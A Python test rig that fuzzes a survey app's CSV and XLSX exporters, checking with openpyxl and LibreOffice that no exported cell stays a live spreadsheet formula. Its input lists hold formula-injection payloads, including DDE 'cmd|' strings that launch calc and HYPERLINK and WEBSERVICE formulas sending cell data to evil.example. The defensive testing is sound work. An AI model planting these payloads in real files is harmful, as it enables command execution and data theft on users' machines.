"""P14: no export holds a cell that a spreadsheet would run, headings included.

Example: .venv/bin/python tests/rigs/formulas.py --texts 100000
Each text goes through every writer; CSV is read back with three separators and judged by rule,
XLSX by openpyxl, and a sample of both is opened by LibreOffice. Exits 1 on one live cell.
"""

from __future__ import annotations

import argparse
import csv
import io
import random
import re
import subprocess
import sys
import unicodedata
from collections.abc import Iterator, Sequence
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent.parent))

import click
import openpyxl
import pandas as pd

from feedback_app.files.exports import Sheet, to_csv, to_xlsx
from feedback_app.files.linked_table import Column, write_table
from feedback_app.files.skm_workbook import skm_workbook
from feedback_app.impact.results import Estimate
from feedback_app.services.impact.files import estimates_csv
from tests.ground.libreoffice import find_soffice
from tests.ground.quick_folder import quick_folder
from tests.ground.survey import GASPUL, answers_of, facts_of_answers
from tests.rigs.faults import books
from tests.rigs.faults.ledger import Account

STARTS = (
    "", "=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "\r\n=", " =", "  =", "\u00a0=", "\u3000=", "\u200b=",
    "\ufeff=", "\x0b=", "＝", "＋", "－", "＠", "﹦", "'=", '"=', '"', "''", "<", "{=", "\x00=", "_x003D_", ";=", ",=", "\t",
)  # fmt: skip
MIDDLES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', "-2+3+cmd|'x'!A0", "DDE(1;2)",
    "WEBSERVICE(\"http://evil.example\")", "IMPORTXML(A1)", "A1", "1", "", "antre lama", "Rp 10.000,-", "é🙂", "x" * 200,
)  # fmt: skip
ENDS = (
    "",
    ";=1+1",
    ",=1+1",
    '";=1+1',
    '",=1+1,"',
    "\n=1+1",
    "\r\n@SUM(1)",
    "\t=1+1",
    '"',
    ";-1+cmd|'x'!A0",
    ", = 1+1",
    " ",
)
SEPARATORS = (";", ",", "\t")
RUNS = "=+-@|%"
# A figure or a lone sign, and what a reader with the wrong separator leaves hanging on it, is not run.
PLAIN_NUMBER = re.compile(
    r"""[+-](?:[0-9.,]*[0-9](?:[eE][+-]?[0-9]+)?)?[\s"]*(?:[;,\t\n].*)?""", re.DOTALL
)
WIDTH, BATCH, SAMPLE = 8, 2_000, 1_000  # texts a row, a file, a file for LibreOffice
LIVE = str  # one live cell, told


def odd_text(rng: random.Random) -> str:
    """A text that somebody hopes a spreadsheet will run."""
    text = rng.choice(STARTS) + rng.choice(MIDDLES) + rng.choice(ENDS)
    return text if rng.random() < 0.9 else rng.choice(STARTS) + text


def runs(text: str) -> bool:
    """Whether a spreadsheet might take a cell of this text for a formula."""
    seen = text
    while seen and (seen[0].isspace() or unicodedata.category(seen[0]) in ("Cc", "Cf", "Zs")):
        seen = seen[1:]
    first = unicodedata.normalize("NFKC", seen[:1])[:1]
    return bool(first) and first in RUNS and not PLAIN_NUMBER.fullmatch(seen)


def live_in_csv(content: bytes) -> Iterator[LIVE]:
    """Cells that would run, whichever separator a program takes."""
    text = content.decode("utf-8-sig")
    for separator in SEPARATORS:
        for number, row in enumerate(
            csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        ):
            yield from (f"row {number} by {separator!r}: {cell!r}" for cell in row if runs(cell))


def live_in_xlsx(content: bytes | Path, *, own: frozenset[str] = frozenset()) -> Iterator[LIVE]:
    """Formulas and links, but for the workbook's own, given as 'sheet!cell formula'."""
    book = openpyxl.load_workbook(content if isinstance(content, Path) else io.BytesIO(content))
    for page in book.worksheets:
        for row in page.iter_rows():
            for cell in row:
                told = f"{page.title}!{cell.coordinate} {cell.value}"
                if (cell.data_type == "f" and told not in own) or cell.hyperlink:
                    yield told


def written(texts: Sequence[str], folder: Path) -> Iterator[tuple[str, bytes]]:
    """(file name, content) from every writer of exports that takes such texts."""
    rows = [tuple(texts[i : i + WIDTH]) for i in range(0, len(texts), WIDTH)]
    heads, rows = rows[0], [row for row in rows[1:] if len(row) == WIDTH]
    sheet = Sheet(texts[0], heads, tuple((*row[:-1], -1.5) for row in rows))
    yield "sheet.csv", to_csv(sheet)
    yield "sheet.xlsx", to_xlsx([sheet, replace(sheet, name="Kedua")])
    yield "estimates.csv", estimates_csv([_estimate(row) for row in rows]).encode()
    frame = pd.DataFrame(
        rows, columns=[f"{place}{head}" if place else head for place, head in enumerate(heads)]
    )
    frame["mean"] = -1.5
    about = [Column(*row[:3]) for row in rows]
    codebook = write_table(frame, folder / "linked.csv", columns=about)
    yield "linked.csv", (folder / "linked.csv").read_bytes()
    yield "codebook.csv", codebook.read_bytes()
    yield "workbook.xlsx", workbook(rows)


def _estimate(row: Sequence[str]) -> Estimate:
    values: dict[str, Any] = {field.name: None for field in fields(Estimate)}
    values |= {"training": row[0], "item": row[1], "method": row[2], "estimate": -0.25}
    return Estimate(**values | {"warnings": tuple(row[3:6])})


def workbook(rows: Sequence[Sequence[str]]) -> bytes:
    """A survey's workbook whose every text is one of the rows'."""
    answers = answers_of(GASPUL)
    facts = facts_of_answers(answers)
    texts = rows[0]
    plan = replace(facts.plans[0], element=texts[0], cause=texts[1], action=texts[2], note=texts[3])
    table = replace(facts.profile[0], question=texts[4])
    facts = replace(
        facts,
        agency=texts[0],
        unit=texts[1],
        title=texts[2],
        days=texts[3],
        form_rule=texts[5],
        instrument=texts[6],
        population_meaning=texts[7],
        comments=tuple(cell for row in rows for cell in row),
        plans=(plan,) * 3,
        profile=(table,),
    )
    return skm_workbook(facts, answers)


def own_formulas() -> frozenset[str]:
    """The formulas of the workbook itself."""
    plain = workbook([("teks",) * WIDTH])
    return frozenset(live_in_xlsx(plain))


def live_cells(texts: Sequence[str], folder: Path) -> list[LIVE]:
    """Every cell of every writer that would run."""
    own = own_formulas()
    found = []
    for name, content in written(texts, folder):
        live = live_in_csv(content) if name.endswith("csv") else live_in_xlsx(content, own=own)
        found += [f"{name}: {cell}" for cell in live]
    return found


def opened_by_libreoffice(files: Sequence[tuple[str, bytes]], folder: Path) -> list[LIVE]:
    """What LibreOffice itself takes for a formula in these files, but for the workbook's own."""
    own = {told.partition(" ")[0] for told in own_formulas()}  # it writes them a little differently
    found = []
    for separator in (*SEPARATORS[:2], ""):
        chosen = [file for file in files if file[0].endswith("csv") == bool(separator)]
        for name, saved in _converted(chosen, separator, folder):
            live = live_in_xlsx(saved)
            is_own = name.startswith("workbook")
            found += [
                f"{name} {separator}: {cell}"
                for cell in live
                if not is_own or cell.partition(" ")[0] not in own
            ]
    return found


def _converted(
    files: Sequence[tuple[str, bytes]], separator: str, folder: Path
) -> list[tuple[str, Path]]:
    """The files as LibreOffice saves them after opening them with this separator."""
    given, out = folder / f"given-{ord(separator or '0')}", folder / f"out-{ord(separator or '0')}"
    given.mkdir()
    for name, content in files:
        (given / name).write_bytes(content)
    command = [find_soffice(), f"-env:UserInstallation=file://{folder / 'profile'}", "--headless"]
    command += ["--norestore", "--convert-to", "xlsx", "--outdir", str(out)]
    command += [f"--infilter=CSV:{ord(separator)},34,76,1"] if separator else []
    command += [str(given / name) for name, _content in files]
    subprocess.run(command, check=True, capture_output=True, timeout=600)
    return [(name, out / f"{Path(name).stem}.xlsx") for name, _content in files]


def main() -> int:
    """Write, read back and print."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawTextHelpFormatter
    )
    parser.add_argument("--texts", type=int, default=100_000)
    parser.add_argument("--seed", type=int, default=14)
    chosen = parser.parse_args()
    rng = random.Random(chosen.seed)
    found: list[LIVE] = []
    with quick_folder() as folder:
        bar = click.progressbar(range(0, chosen.texts, BATCH), label="texts", file=sys.stderr)
        with bar as starts:
            for _ in starts:
                texts = [odd_text(rng) for _ in range(BATCH)]
                found += live_cells(texts, folder)
        sample = list(written([odd_text(rng) for _ in range(SAMPLE)], folder))
        opened = opened_by_libreoffice(sample, folder)
    books.write_down(
        "formulas",
        engine="none",
        case="every writer of exports",
        control="",
        count=chosen.texts,
        account=Account(0, changed=len(found) + len(opened)),
    )
    writers = ", ".join(name for name, _content in sample)
    print(f"{chosen.texts} texts through {writers}: {len(found)} live cells")
    print(f"LibreOffice opened a sample of {SAMPLE} texts of each: {len(opened)} live cells")
    for cell in [*found, *opened][:20]:
        print(f"  {cell}")
    return int(bool(found or opened))


if __name__ == "__main__":
    sys.exit(main())
